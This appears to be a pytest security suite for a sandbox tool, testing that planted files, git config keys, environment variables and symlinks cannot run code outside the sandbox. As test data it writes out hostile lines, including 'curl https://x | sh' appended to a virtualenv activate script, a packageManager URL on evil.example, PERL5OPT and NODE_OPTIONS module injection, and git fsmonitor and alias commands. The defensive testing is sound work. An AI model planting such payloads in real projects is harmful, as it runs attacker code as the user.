"""Attacks of the third pass: the tools broker, identity, the changes report
(docs/design.md, "Security invariants"; docs/runs-outside.md).

Each test PASSES when the sandbox holds and FAILS when the attack works. They
run as an unprivileged user and as root.
"""
import json
import os
import pathlib
import subprocess

import pytest

from conftest import IS_ROOT


def in_private_mounts(lnk, script):
    """Runs sh SCRIPT in a mount namespace of its own (a user namespace too
    when not root), with lnk's environment; returns the CompletedProcess."""
    pre = ["unshare", "-m", "--propagation", "private"]
    if not IS_ROOT:
        pre = ["unshare", "-r", "-m", "--propagation", "private"]
    return subprocess.run([*pre, "/bin/sh", "-c", script], env=lnk.env(),
                          cwd=str(lnk.cwd), capture_output=True, text=True,
                          timeout=60)


def lnk_cmd(lnk):
    """lnk as the shell of in_private_mounts starts it: as a user, in a user
    namespace below the one that mounted, as a user that is not root there
    either (what a user's bind mount of their home looks like to lnk)."""
    if IS_ROOT:
        return f"'{lnk.bin}'"
    return (f"unshare --user --map-user={os.getuid()} "
            f"--map-group={os.getgid()} '{lnk.bin}'")


# --- invariant 1: a tool's view hides lnk's settings at every path ---------

def test_tool_never_reads_lnks_settings_at_a_second_path(lnk, home, work,
                                                         tmp_path):
    """Invariant 1 (never ~/.lnk), through a tool. Threat: the home is also
    mounted at a second path (/home bound from /data/home). A tool runs
    outside with the machine as the user sees it, except ~/.lnk and the
    hidden folders, which its view covered at their one spelling only:
    `cat /data/home/.lnk/sandbox/NAME.key` through a granted `cat *` read
    the model keys, the call log, the questions and their answers."""
    key = home / ".lnk" / "sandbox" / "probe.key"
    cp = lnk.run("--write", work, "--", "/bin/true")
    assert cp.returncode == 0, cp.stderr
    key.write_text("LNKSECRET\n")
    key.chmod(0o600)
    private = work / "private"
    private.mkdir()
    (private / "s").write_text("HIDDENSECRET\n")
    second = tmp_path / "second"
    second.mkdir()
    cp = in_private_mounts(lnk, f"""
        mount --bind '{home}' '{second}' || exit 99
        {lnk_cmd(lnk)} sandbox run --write '{work}' --hide '{private}' \
            --tool 'cat *' -- /bin/sh -c '
            cat "{second}/.lnk/sandbox/probe.key"
            cat "{second}/project/private/s"
            echo ran'
        """)
    assert cp.returncode != 99, cp.stderr
    assert "ran" in cp.stdout, (cp.stdout, cp.stderr)
    assert "LNKSECRET" not in cp.stdout + cp.stderr
    assert "HIDDENSECRET" not in cp.stdout + cp.stderr


# --- invariant 8: the changes report names what runs later -----------------

def changes_flags(lnk, name):
    cp = lnk("sandbox", "changes", name, "--json")
    assert cp.returncode == 0, cp.stderr
    reports = [json.loads(x) for x in cp.stdout.splitlines()]
    assert reports, cp.stdout
    return {f["path"]: f["reason"]
            for f in reports[0]["folders"][0]["flags"]}


LINKED_NAMES = r"""
set -e
printf 'all:\n\ttouch /tmp/pwned\n' > evil.mk; ln -s evil.mk Makefile
echo 'import os' > cf.py; ln -s cf.py conftest.py
echo '{"scripts":{"postinstall":"id"}}' > p.json; ln -s p.json package.json
echo 'import os' > rl.py; ln -s rl.py readline.py
mkdir sub; echo 'x' > sub/y.txt; ln -s y.txt sub/eslint.config.js
echo 'import os' > sc.py; ln -s ../sc.py sub/sitecustomize.py
mkdir -p repo/.git/modules/m; echo 'ref: x' > repo/.git/HEAD
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/notes.txt
ln -s ../../../notes.txt repo/.git/modules/m/config
"""


def test_a_link_named_like_what_runs_later_is_flagged(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    make, pytest, npm, python and git follow a link: `Makefile -> evil.mk`
    runs evil.mk at the next make. The report judged a link only by where
    its text points, and its rows by a regular file's name: a link named
    Makefile, conftest.py, package.json, readline.py, eslint.config.js,
    sitecustomize.py or a git config, to a file of an innocent name inside
    the folder, was counted and named nowhere."""
    cp = lnk.run("--write", work, "--name", "linked", "--", "/bin/sh", "-c",
                 LINKED_NAMES)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "linked")
    for path in ("Makefile", "conftest.py", "package.json", "readline.py",
                 "sub/eslint.config.js", "sub/sitecustomize.py",
                 "repo/.git/modules/m/config"):
        assert path in flags, (path, flags)
        assert f"project/{path}: " in cp.stderr, cp.stderr


VENV = r"""
set -e
echo 'curl -s https://x | sh' >> .venv/bin/activate
echo 'eval "$(curl -s https://x)"' > .venv/bin/activate.fish
printf 'home = %s/evil/bin\n' "$PWD" > .venv/pyvenv.cfg
"""


def test_virtualenv_activate_and_its_settings_flagged(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    `source .venv/bin/activate` runs that file in the user's own shell, and
    `home` in pyvenv.cfg names where the environment's python finds its
    standard library (site.py, encodings: run at every start). Neither is
    executable, so a program that rewrote them was counted and named
    nowhere; the user's next activation ran its code."""
    venv = work / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin" / "activate").write_text("# activate\n")
    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
    cp = lnk.run("--write", work, "--name", "venv", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {VENV}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "venv")
    for path in (".venv/bin/activate", ".venv/bin/activate.fish",
                 ".venv/pyvenv.cfg"):
        assert path in flags, (path, flags)


def sh(lnk, script, *grants, timeout=60, **kw):
    """Runs SCRIPT in a sandbox with GRANTS and checks that it ran to its
    end: a refused start would hold every attack and prove nothing."""
    marker = pathlib.Path(grants[list(grants).index("--write") + 1]) \
        / "ran.marker"
    cp = lnk.run(*grants, "--", "/bin/sh", "-c",
                 f"{script}\necho ran > '{marker}'", timeout=timeout, **kw)
    assert marker.exists(), cp.stderr
    marker.unlink()
    return cp


# --- invariant 8: git's keys and the environment's names, the whole table --

# Keys of git-config(1) (and git-archive(1)) whose value git runs, missing
# from rule C's table: written into the user's ~/.gitconfig, naming a
# program in the project (a write folder).
MORE_GIT_KEYS = [
    ("core", "alternateRefsCommand", "{work}/tools/refs", "tools/refs"),
    ('guitool "lint"', "cmd", "{work}/tools/lint", "tools/lint"),
    ("imap", "tunnel", "{work}/tools/tunnel --x", "tools/tunnel"),
    ('tar "tar.xz"', "command", "{work}/tools/xz -c", "tools/xz"),
    ("instaweb", "httpd", "{work}/tools/httpd", "tools/httpd"),
    ("instaweb", "browser", "{work}/tools/browser", "tools/browser"),
]


@pytest.mark.parametrize("section,key,value,target", MORE_GIT_KEYS,
                         ids=[f"{s.split()[0]}.{k}" for s, k, _, _ in
                              MORE_GIT_KEYS])
def test_more_git_keys_that_run_programs_protected(lnk, home, work, section,
                                                   key, value, target):
    """Invariant 8 (what runs outside later), rule C. Threat: the user's
    ~/.gitconfig names a program inside the project under a key the table
    did not know (git gui's Tools menu, git imap-send's tunnel, git
    archive's compressor, the alternates' refs command, git instaweb's
    server and browser): the program writes it, and the user's next such
    git runs it outside, as the user."""
    (home / ".gitconfig").write_text(
        f"[{section}]\n\t{key} = {value.format(work=work)}\n")
    t = work / target
    cp = sh(lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
                 f"echo 'touch ~/pwned' >> {target}; true", "--write", work)
    assert not t.exists(), cp.stderr


# Variables of the user's environment that name a program or a folder git
# (or sudo, man, a browser opener) runs, missing from rule E's table.
MORE_ENV = [
    ("GIT_EXTERNAL_DIFF", "tools/diff", "tools/diff"),
    ("GIT_SEQUENCE_EDITOR", "tools/seq", "tools/seq"),
    ("GIT_TEMPLATE_DIR", "tmpl", "tmpl/hooks/post-checkout"),
    ("GIT_EXEC_PATH", "libexec", "libexec/git-status"),
    ("SUDO_ASKPASS", "tools/askpass", "tools/askpass"),
    ("MANPAGER", "tools/pager", "tools/pager"),
    ("BROWSER", "tools/browser", "tools/browser"),
    ("PIP_CONFIG_FILE", "pip.conf", "pip.conf"),
]


@pytest.mark.parametrize("var,value,target", MORE_ENV,
                         ids=[v for v, _, _ in MORE_ENV])
def test_more_programs_the_environment_names_protected(lnk, work, var, value,
                                                       target):
    """Invariant 8 (what runs outside later), rule E. Threat: the user's
    GIT_EXTERNAL_DIFF (GIT_SEQUENCE_EDITOR, GIT_TEMPLATE_DIR, GIT_EXEC_PATH,
    SUDO_ASKPASS, MANPAGER, BROWSER, PIP_CONFIG_FILE) names a program or folder in the
    project: the program plants it, and the user's next git diff, rebase,
    init, git command, sudo -A (given the password), man or link opened
    runs it (or installs from the index it names), outside."""
    t = work / target
    cp = sh(lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
                 f"echo 'touch ~/pwned' >> {target}; true", "--write", work,
            env={var: str(work / value)})
    assert not t.exists(), cp.stderr


# Files a tool or an editor started in the project runs (or trusts to say
# what it runs), missing from the report's table: name -> a word of the
# reason the report must give.
MORE_RUN_LATER = {
    "app.code-workspace": "VS Code",
    ".venv/pip.conf": "pip",
    ".pylintrc": "pylint",
    "pylintrc": "pylint",
    "pytest.ini": "pytest",
    "mypy.ini": "mypy",
    ".mypy.ini": "mypy",
    "Vagrantfile": "vagrant",
    "flake.nix": "nix",
    "shell.nix": "nix",
    "devbox.json": "devbox",
    "docker-compose.yml": "docker compose",
    "compose.yaml": "docker compose",
    "Package.swift": "swift",
    "build.sbt": "sbt",
    "mix.exs": "mix",
    ".bazelrc": "bazel",
    ".rspec": "rspec",
    ".rubocop.yml": "rubocop",
    "bunfig.toml": "bun",
    "deno.json": "deno",
}


def test_more_files_that_run_later_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    the program leaves a file that a tool or an editor started in the
    project runs or obeys: pylint's init-hook, pytest's and mypy's plugins,
    a VS Code workspace's tasks, a virtualenv's pip.conf (the index the
    next pip install trusts), a Vagrantfile, a nix shell's shellHook, a
    compose file's privileged service, Swift's and sbt's build manifests
    (run as soon as an editor opens the folder). None was flagged."""
    (work / ".venv").mkdir()
    (work / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    script = "; ".join(f"echo 'x' > '{n}'" for n in MORE_RUN_LATER)
    cp = lnk.run("--write", work, "--name", "more", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "more")
    missing = [n for n in MORE_RUN_LATER if n not in flags]
    assert not missing, (missing, cp.stderr)
    for name, word in MORE_RUN_LATER.items():
        assert word in flags[name], (name, flags[name])


# --- the folder rule: a tool never obeys what the program made -------------

@pytest.mark.xfail(strict=True, reason=(
    "the folder rule accepts a write folder's top because its dot files are "
    "kept; a build tool's configuration there is the project's own files "
    "(Makefile, package.json, build.rs, conftest.py), which the program "
    "writes: a design change (a tool acts at a write folder's top only when "
    "lnk knows its configuration there is kept, as git's .git is), not a "
    "small fix"))
def test_granted_build_tool_never_runs_what_the_program_wrote(lnk, work,
                                                               tmp_path):
    """Invariant 8 (what runs outside later, here at once), the tools'
    folder rule: a tool never acts where the program could have made its
    configuration. Threat: with only `make test` granted, the program
    rewrites the Makefile at the top of its write folder (no dot file:
    nothing keeps it) and calls the tool: make, outside, as the user, runs
    the program's recipe. The same with `npm test` (package.json),
    `cargo build` (build.rs), `pytest` (conftest.py)."""
    (work / "Makefile").write_text("test:\n\ttrue\n")
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    cp = lnk.run("--write", work, "--tool", "make test", "--", "/bin/sh",
                 "-c", f"cd '{work}' && printf 'test:\\n\\ttouch {mark}\\n' "
                 f"> Makefile; make test; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)


# --- a tool's environment: nothing of the program's reaches it -------------

TOOL_ENV_CASES = [
    # variable, its value ({work} the write folder), what the program
    # writes there, the interpreter the tool runs
    ("PERL5OPT", "-I{work}/lib -Mevil", "lib/evil.pm",
     'system("touch {mark}"); 1;', "perl -e 'print qq(tool-ran\\n)'"),
    ("NODE_OPTIONS", "--require {work}/hook.js", "hook.js",
     'require("fs").writeFileSync("{mark}", "")',
     "node -e 'console.log(\"tool-ran\")'"),
]


@pytest.mark.parametrize("var,value,target,text,run", TOOL_ENV_CASES,
                         ids=[c[0] for c in TOOL_ENV_CASES])
def test_tool_environment_names_no_file_of_the_program(lnk, work, tmp_path,
                                                       var, value, target,
                                                       text, run):
    """Invariant 8 (here at once: a tool runs outside), the tool's
    environment. Threat: lnk's environment holds an interpreter's options
    that name a file in the project (PERL5OPT=-I~/code/app/lib -Mdev,
    NODE_OPTIONS=--require ~/code/app/hook.js, set by direnv): the tools
    broker dropped a variable naming a write folder only when its value
    (or a ':' piece of it) started with that path, so an option word
    naming it reached the tool, and a granted tool's perl or node loaded
    the program's module, outside, as the user."""
    from conftest import on_lnk_path
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool", f"#!/bin/sh\nexec {run}\n",
                **{var: value.format(work=work)})
    script = (f"mkdir -p '{work}/{os.path.dirname(target) or '.'}' && "
              f"printf '%s\\n' '{text.format(mark=mark)}' > '{work}/{target}'"
              f" && mytool run")
    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh", "-c",
                 script)
    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
    assert not mark.exists(), (cp.stdout, cp.stderr)


# Keys of the table of rule C (src/guard/gitkeys.c) that the changes
# report's reading of a git config (src/changes/gitcfg.c) did not know:
# each written into an existing repository below the top of a write folder.
CONFIG_KEYS = [
    ("pager", "log"), ('remote "origin"', "uploadpack"),
    ('merge "x"', "driver"), ("interactive", "diffFilter"),
    ('difftool "x"', "cmd"), ('mergetool "x"', "path"),
    ('submodule "m"', "update"), ("core", "attributesFile"),
    ("init", "templateDir"), ("web", "browser"), ('man "x"', "cmd"),
    ("sendemail", "sendmailCmd"), ("uploadpack", "packObjectsHook"),
    ('guitool "x"', "cmd"), ("imap", "tunnel"),
    ("core", "alternateRefsCommand"),
]


def test_config_keys_the_report_reads_are_rule_cs(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    the user's own repository lies below the top of the write folder
    (~/code/app/.git with --write ~/code); the program appends
    `[pager] log = CMD` (remote.origin.uploadpack, a merge driver, ...) to
    its config, in place: the folder .git is unchanged, and the report
    read the config for a dozen keys only, so nothing was named; the
    user's next git log (fetch, merge, ...) there ran CMD."""
    import time
    repo = work / "app" / ".git"
    (repo / "objects").mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / "config").write_text("[core]\n\tbare = false\n")
    ctime = os.stat(repo).st_ctime_ns
    while time.clock_gettime_ns(getattr(time, "CLOCK_REALTIME_COARSE", 5)) \
            <= ctime:
        pass
    lines = "".join(f"[{s}]\n\t{k} = !touch /tmp/pwned\n"
                    for s, k in CONFIG_KEYS)
    cp = lnk.run("--write", work, "--name", "cfgkeys", "--", "/bin/sh", "-c",
                 f"printf '%s' '{lines}' >> '{repo}/config'")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "cfgkeys")
    assert "app/.git" not in flags, flags  # the folder did not change
    why = flags.get("app/.git/config", "")
    for s, k in CONFIG_KEYS:
        sec = s.split()[0]
        assert f"{sec}." in why and f"{k.lower()}" in why.lower(), \
            (s, k, why)


def test_repository_whose_objects_are_elsewhere_flagged(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    git takes a folder holding HEAD and a `commondir` file for a
    repository, with its objects, refs and config in the folder commondir
    names. The program leaves x/HEAD, x/commondir (../y) and y/config with
    `alias.st = !CMD` (the repository's alias wins over the user's own
    `st`); the report looked for a bare repository only where HEAD,
    objects and refs lie together, and named nothing. The user's next
    `git st` in x ran CMD."""
    cp = lnk.run("--write", work, "--name", "common", "--", "/bin/sh", "-c",
                 "mkdir -p y/objects y/refs x && "
                 "printf '[alias]\\n\\tst = !touch /tmp/pwned\\n' > y/config"
                 " && echo 'ref: refs/heads/main' > x/HEAD && "
                 "echo ../y > x/commondir", cwd=work)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "common")
    assert "x/HEAD" in flags, (flags, cp.stderr)
    assert "bare repository" in flags["x/HEAD"]


# --- invariant 2: no name is made where the guard does not see it ----------

# _IOW(0x94, nr, 4096 bytes): btrfs's subvolume and snapshot calls
BTRFS_IOCTLS = {"SNAP_CREATE": 1, "SUBVOL_CREATE": 14, "SNAP_DESTROY": 15,
                "SNAP_CREATE_V2": 23, "SUBVOL_CREATE_V2": 24,
                "SNAP_DESTROY_V2": 63}

IOCTL_PROBE = r"""
import errno, fcntl, os, struct, sys
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
for name, nr in %r.items():
    cmd = (1 << 30) | (4096 << 16) | (0x94 << 8) | nr
    arg = bytearray(struct.pack("q", -1) + b".git".ljust(4088, b"\0"))
    try:
        fcntl.ioctl(fd, cmd, arg)
        print(name, "done")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
"""


def test_subvolume_calls_refused(lnk, work):
    """Invariant 2 (writes: the guard performs every creation, so a kept
    name is never made). Threat: on btrfs, `btrfs subvolume create .git`
    makes a folder by an ioctl on its parent, not by mkdir: the guard never
    saw it, the top of the write folder got a .git the program filled
    (core.fsmonitor), and the report skipped it (another device). Each
    subvolume and snapshot call is refused by the filter, on any file
    system (elsewhere the kernel would say ENOTTY)."""
    cp = lnk.run("--write", work, "--", "python3", "-c",
                 IOCTL_PROBE % BTRFS_IOCTLS, cwd=work)
    assert cp.returncode == 0, cp.stderr
    got = dict(line.split() for line in cp.stdout.splitlines())
    assert got == {n: "EPERM" for n in BTRFS_IOCTLS}, got
    assert not (work / ".git").exists()


BTRFS = r"""
set -e
truncate -s 200M '{img}'
mkfs.btrfs -q '{img}' >/dev/null
mount -o loop '{img}' '{mnt}'
trap "cd /; umount '{mnt}'" EXIT
mkdir '{mnt}/proj'
btrfs -q subvolume create '{mnt}/proj/sub'
sleep 0.02
cd '{mnt}/proj'
'{lnk}' sandbox run --write . --name btrfs -- /bin/sh -c '
    btrfs subvolume create .git 2>&1 || true
    mkdir -p sub/repo/.git
    printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > sub/repo/.git/config'
test ! -e .git
"""


def test_btrfs_subvolume_neither_made_nor_skipped(lnk, home, tmp_path):
    """Invariant 2 and 8, on btrfs (Fedora's and openSUSE's default): the
    program cannot make the top's .git as a subvolume, and what it leaves
    in an existing subvolume of its write folder (another device number,
    but no mount: the program writes there) is walked and reported."""
    import shutil
    if not IS_ROOT:
        pytest.skip("mounting a btrfs image needs root; "
                    "test_subvolume_calls_refused covers the user")
    if not shutil.which("mkfs.btrfs") or not shutil.which("btrfs"):
        pytest.skip("btrfs-progs is not installed")
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    cp = subprocess.run(
        ["unshare", "-m", "--propagation", "private", "/bin/sh", "-c",
         BTRFS.format(img=tmp_path / "bt.img", mnt=mnt, lnk=lnk.bin)],
        env=lnk.env(), capture_output=True, text=True, timeout=120)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    flags = changes_flags(lnk, "btrfs")
    assert "sub/repo/.git" in flags, (flags, cp.stderr)


@pytest.mark.xfail(strict=True, reason=(
    "a relative path in an interpreter's option word (PERL5OPT=-Ilib, "
    "NODE_OPTIONS=--require ./x.js) is read from the tool's folder, the top "
    "of a write folder; which words are paths is each interpreter's own "
    "grammar: proposed, leave the option variables of a table (PERL5OPT, "
    "NODE_OPTIONS, RUBYOPT, JAVA_TOOL_OPTIONS, JDK_JAVA_OPTIONS, "
    "_JAVA_OPTIONS) out of a tool's environment whenever a word of theirs "
    "is not an absolute path outside the write folders"))
def test_tool_environment_relative_option_path(lnk, work, tmp_path):
    """Invariant 8 (here at once), the tool's environment: lnk's PERL5OPT
    is `-Ilib -Mdev` (a developer's, for their project); a granted tool
    running perl starts at the top of the write folder, where lib/dev.pm
    is the program's."""
    from conftest import on_lnk_path
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
                "#!/bin/sh\nexec perl -e 'print qq(tool-ran\\n)'\n",
                PERL5OPT="-Ilib -Mdev")
    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh",
                 "-c", f"cd '{work}' && mkdir -p lib && "
                 f"echo 'system(\"touch {mark}\"); 1;' > lib/dev.pm && "
                 "mytool run")
    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
    assert not mark.exists(), (cp.stdout, cp.stderr)


def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat:
    the program leaves a repository in sub/ and makes sub readable but not
    searchable (chmod 0400): as a user, lnk lists its names but cannot look
    at any of them, and the walk took each for gone, so nothing was named
    (a folder closed whole, chmod 0, is). The user's `chmod 755 sub; cd
    sub` then runs its core.fsmonitor. As root lnk looks inside and names
    the repository itself."""
    cp = lnk.run("--write", work, "--name", "noexec", "--", "/bin/sh", "-c",
                 "mkdir -p sub/.git && echo 'ref: x' > sub/.git/HEAD && "
                 "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > "
                 "sub/.git/config && chmod 0400 sub", cwd=work)
    try:
        assert cp.returncode == 0, cp.stderr
        flags = changes_flags(lnk, "noexec")
        assert "sub" in flags or "sub/.git" in flags, (flags, cp.stderr)
    finally:
        (work / "sub").chmod(0o755)  # so pytest can remove it


def test_package_json_naming_a_package_manager_flagged(lnk, work):
    """Invariant 8 (what runs outside later), the changes report. Threat: a
    package.json without scripts but with `"packageManager":
    "yarn@https://host/x.tgz"`: corepack downloads and runs that archive
    as the user's next yarn (or pnpm) in the folder. The report read a
    package.json for its scripts only, and named nothing."""
    (work / "package.json").write_text('{"name":"app"}\n')
    cp = lnk.run("--write", work, "--name", "pm", "--", "/bin/sh", "-c",
                 "printf '%s\\n' '{\"name\":\"app\",\"packageManager\":"
                 "\"yarn@https://evil.example/yarn.tgz\"}' > package.json",
                 cwd=work)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "pm")
    assert "packageManager" in flags.get("package.json", ""), flags
